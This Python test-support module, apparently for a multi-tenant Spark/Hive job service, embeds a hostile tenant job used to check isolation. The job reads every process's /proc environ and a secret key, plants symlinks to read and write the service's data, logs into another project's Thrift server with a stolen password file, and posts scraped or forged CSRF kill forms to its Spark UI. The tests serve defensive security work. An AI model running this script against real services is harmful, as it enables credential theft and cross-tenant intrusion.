"""Hostile jobs for tests/security/test_hostile_jobs.py: the programs a tenant would submit to
reach the service's secrets or another project, a client that keeps every API answer, and a
latch that holds the other project's job running until the attack is over.

``ATTACK`` is one Python program (standard library; ``pyhive`` and ``pyspark`` when it runs as
a PySpark job) that tries every attempt its spec names and prints what each one got as one
``HOSTILE-REPORT <json>`` line: ``{"ok": value}`` or ``{"error": "..."}`` per attempt. It
judges nothing: the test compares what it got with the real files and processes.
"""

from __future__ import annotations

import base64
import json
import os
import shutil
import socket
import threading
import time
import urllib.request
from pathlib import Path
from typing import Any

import httpx

__all__ = [
    "ATTACK",
    "B_HOLD",
    "REPORT_MARK",
    "Answers",
    "Latch",
    "ENDED",
    "encode_spec",
    "files_under",
    "parse_report",
    "wait_running_spark_job",
    "wordcount_jar",
]

REPORT_MARK = "HOSTILE-REPORT "
ENDED = frozenset({"FINISHED", "FAILED", "KILLED"})

ATTACK = r'''
"""A tenant's job that reaches for what is not its own and prints what it got."""
import base64, json, os, re, socket, sys, urllib.error, urllib.parse, urllib.request

SPEC = json.loads(base64.b64decode(sys.argv[1]))
REPORT = {"cwd": {"ok": os.getcwd()}}


def attempt(name, fn, *args, **kwargs):
    try:
        value = fn(*args, **kwargs)
    except BaseException as exc:  # everything a refusal can raise, Py4J's errors included
        REPORT[name] = {"error": (type(exc).__name__ + ": " + str(exc))[:300]}
    else:
        REPORT[name] = {"ok": value}


def read(path):
    with open(path, "rb") as fh:
        return fh.read(65536).decode("latin-1")


def listdir(path):
    return sorted(os.listdir(path))


def write(path, mode="w"):
    with open(path, mode) as fh:
        fh.write(SPEC["content"])
    return "written"


def mkdir(path):
    os.mkdir(path)
    return "made"


def cmdline(pid):
    return read("/proc/%s/cmdline" % pid).replace("\0", " ")[:300]


def processes():
    seen = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                seen[name] = cmdline(name)
            except OSError as exc:
                seen[name] = "(%s)" % type(exc).__name__
    return seen


def environments():
    seen = {}
    for name in os.listdir("/proc"):
        if name.isdigit():
            try:
                seen[name] = read("/proc/%s/environ" % name).replace("\0", "\n")
            except OSError as exc:
                seen[name] = "(%s)" % type(exc).__name__
    return seen


def signal0(pid):
    os.kill(pid, 0)  # signal 0: only asks whether the process can be signalled
    return cmdline(pid)


def symlink_read(target, name):
    link = os.path.join(os.getcwd(), "lnk-" + name)
    os.symlink(target, link)
    return read(os.path.join(link, name))


def symlink_write(target):
    link = os.path.join(os.getcwd(), "lnk-write")
    os.symlink(target, link)
    return write(os.path.join(link, SPEC["tag"] + "-via-link"))


def tcp(port):
    with socket.create_connection(("127.0.0.1", port), timeout=5):
        return "connected"


def hive(port, query, **kwargs):
    from pyhive import hive as pyhive

    conn = pyhive.connect(host="127.0.0.1", port=port, **kwargs)
    try:
        cursor = conn.cursor()
        cursor.execute(query)
        return [[str(v) for v in row] for row in cursor.fetchall()]
    finally:
        conn.close()


def hive_with_stolen_password(port, query, path):
    password = read(path).strip()
    if not password:
        raise PermissionError("the password file gave nothing")
    return hive(port, query, username="mrs", auth="CUSTOM", password=password)


def http(url, body=None):
    req = urllib.request.Request(url, data=body, method="POST" if body is not None else "GET")
    try:
        with urllib.request.urlopen(req, timeout=10) as resp:
            return resp.status, resp.read(400000).decode("utf-8", "replace")
    except urllib.error.HTTPError as exc:
        return exc.code, ""


def ui_page(base):
    return http(base + "/jobs/")[0]


def ui_environment(base):
    apps = json.loads(http(base + "/api/v1/applications")[1])
    return http("%s/api/v1/applications/%s/environment" % (base, apps[0]["id"]))[1]


def ui_kill(base):
    """What any local process can do: read a page's kill form (Spark 4 puts a CSRF token in
    it) and post it for job 0 and stage 0, with a made-up token too, and the old GET links."""
    statuses = {}
    for page, action in (("/jobs/", "/jobs/job/kill/"), ("/stages/", "/stages/stage/kill/")):
        html = http(base + page)[1]
        tokens = set(re.findall(r'name="csrfToken" value="([0-9a-f]+)"', html)) | {"0" * 32}
        for token in sorted(tokens):
            form = urllib.parse.urlencode({"id": "0", "terminate": "true", "csrfToken": token})
            statuses["POST %s %s" % (action, token[:6])] = http(base + action, form.encode())[0]
        statuses["GET " + action] = http(base + action + "?id=0&terminate=true")[0]
    return statuses


def swap_log(target):
    """Replace this job's stderr.log by a link to ``target``: the service reads that file."""
    os.unlink("stderr.log")
    os.symlink(target, "stderr.log")
    return "swapped"


def spark_attempts(spark):
    key, data = SPEC["reads"]["key"], SPEC["data"]
    attempt("spark.read_key", lambda: [r.value for r in spark.read.text("file://" + key).collect()])
    attempt(
        "spark.read_bootstrap",
        lambda: [r.value for r in spark.read.text("file://" + data + "/bootstrap.json").collect()],
    )
    attempt(
        "spark.write_data_dir",
        lambda: spark.sql("SELECT '%s' AS v" % SPEC["content"])
        .write.text("file://" + data + "/" + SPEC["tag"] + "-spark")
        or "written",
    )
    attempt(
        "spark.python_worker_read_key",
        lambda: spark.sparkContext.parallelize([0], 1).map(lambda _: read(key)).collect(),
    )


def endpoints():
    """Another project's endpoints (first, while its job still runs)."""
    if SPEC.get("ui"):
        attempt("ui.page", ui_page, SPEC["ui"])
        attempt("ui.environment", ui_environment, SPEC["ui"])
        attempt("ui.kill", ui_kill, SPEC["ui"])
    if SPEC.get("thrift_port"):
        port, query = SPEC["thrift_port"], SPEC["thrift_query"]
        socket.setdefaulttimeout(30)  # Thrift's sockets: a refusal must not hang the job
        attempt("thrift.tcp", tcp, port)
        attempt("thrift.auth_none", hive, port, query, username="mrs", auth="NONE")
        attempt("thrift.auth_nosasl", hive, port, query, username="mrs", auth="NOSASL")
        guess = {"username": "mrs", "auth": "CUSTOM", "password": "mrs"}
        attempt("thrift.auth_guess", hive, port, query, **guess)
        stolen = SPEC["b_password"]
        attempt("thrift.stolen_password", hive_with_stolen_password, port, query, stolen)
        socket.setdefaulttimeout(None)  # Py4J's sockets (Spark, below) wait as long as they need


def files():
    """The service's files and other jobs' directories."""
    for name, path in SPEC["reads"].items():
        attempt("read." + name, read, path)
    for name, path in SPEC.get("lists", {}).items():
        attempt("list." + name, listdir, path)
    attempt("read.via_symlink", symlink_read, SPEC["data"], "secret.key")
    for name, path in SPEC.get("writes", {}).items():
        attempt("write." + name, write, path)
    for name, path in SPEC.get("appends", {}).items():
        attempt("append." + name, write, path, "a")
    for name, path in SPEC.get("mkdirs", {}).items():
        attempt("mkdir." + name, mkdir, path)
    attempt("write.via_symlink", symlink_write, SPEC["data"])


def procs():
    """Processes and their environments."""
    attempt("proc.processes", processes)
    attempt("proc.environments", environments)
    for name, pid in SPEC.get("pids", {}).items():
        attempt("proc.environ." + name, read, "/proc/%d/environ" % pid)
        attempt("proc.signal0." + name, signal0, pid)


def spark():
    """The same through Spark: the driver JVM and a Python worker."""
    from pyspark.sql import SparkSession

    session = SparkSession.builder.appName("hostile").getOrCreate()
    try:
        spark_attempts(session)
    finally:
        session.stop()
    return "ran"


try:
    endpoints()
    files()
    procs()
    if SPEC.get("spark"):
        attempt("spark.session", spark)
    if SPEC.get("swap_log"):
        attempt("swap_log", swap_log, SPEC["reads"]["key"])
finally:
    print("HOSTILE-REPORT " + json.dumps(REPORT, sort_keys=True), flush=True)
'''

# The other project's job: a PySpark job whose job 0 holds until the test releases the latch.
B_HOLD = r"""
import socket, sys, time, uuid
from pyspark.sql import SparkSession

PORT = int(sys.argv[1])


def hold(x):
    import socket, time

    deadline = time.time() + 170
    try:
        conn = socket.create_connection(("127.0.0.1", PORT), timeout=5)
    except OSError:
        return x  # the latch is gone: released
    try:
        conn.settimeout(max(1.0, deadline - time.time()))
        conn.recv(1)
    except OSError:
        pass
    finally:
        conn.close()
    return x


print("B-LOG-MARKER", uuid.uuid4().hex, flush=True)
spark = SparkSession.builder.appName("b-hold").getOrCreate()
total = spark.sparkContext.parallelize([1, 2], 2).map(hold).sum()
print("B-RESULT", total, flush=True)
spark.stop()
"""


def encode_spec(spec: dict[str, Any]) -> str:
    """The attack's one argument: its spec as base64 JSON (no quoting rules to meet)."""
    return base64.b64encode(json.dumps(spec).encode()).decode()


def parse_report(stdout: str) -> dict[str, dict[str, Any]] | None:
    for line in stdout.splitlines():
        if line.startswith(REPORT_MARK):
            return json.loads(line[len(REPORT_MARK) :])
    return None


class Latch:
    """A loopback listener: connections made to it stay open until :meth:`release`."""

    def __init__(self) -> None:
        self.sock = socket.create_server(("127.0.0.1", 0))
        self.port = self.sock.getsockname()[1]
        self.conns: list[socket.socket] = []
        self._thread = threading.Thread(target=self._accept, daemon=True)
        self._thread.start()

    def _accept(self) -> None:
        while True:
            try:
                conn, _ = self.sock.accept()
            except OSError:
                return
            self.conns.append(conn)

    def release(self) -> None:
        try:
            self.sock.shutdown(socket.SHUT_RDWR)
        except OSError:
            pass
        self.sock.close()
        for conn in self.conns:
            conn.close()


class Answers:
    """One project's view of the API (X-Auth-Token); every answer is kept for the grep."""

    def __init__(self, endpoint: str, project_id: str, token: str) -> None:
        self.project_id = project_id
        self.http = httpx.Client(base_url=endpoint, headers={"X-Auth-Token": token}, timeout=30)
        self.seen: list[tuple[str, str]] = []

    def _keep(self, what: str, r: httpx.Response) -> httpx.Response:
        self.seen.append((what, r.text))
        self.seen.append((what + " headers", json.dumps(dict(r.headers))))
        return r

    def base(self, cluster_id: str) -> str:
        return f"/v2/{self.project_id}/clusters/{cluster_id}/job-executions"

    def submit(
        self,
        cluster_id: str,
        job_type: str,
        arguments: list[str],
        name: str,
        properties: dict[str, str] | None = None,
    ) -> httpx.Response:
        body = {
            "job_type": job_type,
            "job_name": name,
            "arguments": arguments,
            "properties": properties or {},
        }
        return self._keep(f"submit {name}", self.http.post(self.base(cluster_id), json=body))

    def show(self, cluster_id: str, job_id: str) -> dict[str, Any]:
        r = self._keep(f"show {job_id}", self.http.get(f"{self.base(cluster_id)}/{job_id}"))
        assert r.status_code == 202, r.text
        return r.json()["job_detail"]

    def wait(self, cluster_id: str, job_id: str, states: frozenset[str], timeout: float) -> dict:
        deadline = time.monotonic() + timeout
        while True:
            detail = self.show(cluster_id, job_id)
            if detail["job_state"] in states or time.monotonic() > deadline:
                return detail
            time.sleep(0.3)

    def log(self, cluster_id: str, job_id: str, kind: str) -> str:
        r = self.http.get(
            f"{self.base(cluster_id)}/{job_id}/log", params={"type": kind, "limit": 1048576}
        )
        self._keep(f"log {kind} {job_id}", r)
        assert r.status_code == 200, r.text
        return r.text

    def sql_result(self, cluster_id: str, job_id: str) -> dict[str, Any]:
        r = self._keep(
            f"sql-result {job_id}", self.http.get(f"{self.base(cluster_id)}/{job_id}/sql-result")
        )
        assert r.status_code == 202, r.text
        return r.json()["sql_results"]

    def list(self, cluster_id: str) -> list[dict[str, Any]]:
        r = self._keep(f"list {cluster_id}", self.http.get(self.base(cluster_id)))
        assert r.status_code == 202, r.text
        return r.json()["job_list"]

    def wait_all(self, jobs: list[tuple[str, str]], timeout: float) -> None:
        """Until every (cluster, job id) has ended, or ``timeout``."""
        deadline = time.monotonic() + timeout
        pending = list(jobs)
        while pending and time.monotonic() < deadline:
            pending = [j for j in pending if self.show(*j)["job_state"] not in ENDED]
            time.sleep(0.5)


def files_under(root: Path) -> list[Path]:
    """Regular files below ``root``; symlinks are neither followed nor read (a job may plant
    one to the key: the test reads as the operator)."""
    found = []
    for parent, _dirs, names in os.walk(root):  # does not descend into linked directories
        found += [Path(parent) / n for n in names if not (Path(parent) / n).is_symlink()]
    return [p for p in found if p.is_file()]


def wait_running_spark_job(ui: str, timeout: float) -> None:
    """Until the Spark application at ``ui`` runs a job (what its kill links act on)."""
    deadline = time.monotonic() + timeout
    while time.monotonic() < deadline:
        try:
            with urllib.request.urlopen(f"{ui}/api/v1/applications", timeout=2) as resp:
                app = json.loads(resp.read())[0]["id"]
            url = f"{ui}/api/v1/applications/{app}/jobs?status=running"
            with urllib.request.urlopen(url, timeout=2) as resp:
                if json.loads(resp.read()):
                    return
        except (OSError, ValueError, IndexError, KeyError):
            pass
        time.sleep(0.3)
    raise AssertionError(f"no Spark job ever ran at {ui}")


def wordcount_jar(base: Path) -> Path | None:
    """tests/support_jobs.py's WordCount jar, or None without javac."""
    from support_jobs import build_wordcount_jar

    from mrs_jobs.engines.java import find_java_home, find_spark_home
    from mrs_jobs.engines.mapreduce import hadoop_jars

    javac = shutil.which(str(Path(find_java_home() or "/usr") / "bin" / "javac"))
    javac = javac or shutil.which("javac")
    if javac is None:
        return None
    jars = hadoop_jars(Path(find_spark_home() or "") / "jars")
    return build_wordcount_jar(base / "wc", javac, str(jars["hadoop-client-api"]))
